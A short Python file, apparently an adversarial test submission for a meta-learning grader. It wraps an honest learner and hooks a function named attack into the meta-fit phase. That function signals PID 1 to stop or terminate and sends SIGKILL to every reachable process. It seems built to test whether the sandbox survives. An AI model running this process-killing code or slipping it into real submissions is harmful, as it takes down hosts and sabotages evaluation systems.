import os
import signal

from honest import HonestLearner as MyLearner  # noqa: F401
from honest import during_meta_fit


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGINT, signal.SIGSTOP, signal.SIGHUP):
        os.kill(1, number)
    try:
        os.kill(-1, signal.SIGKILL)
    except ProcessLookupError:
        pass
    print("TRIED")


MyMetaLearner = during_meta_fit(attack)
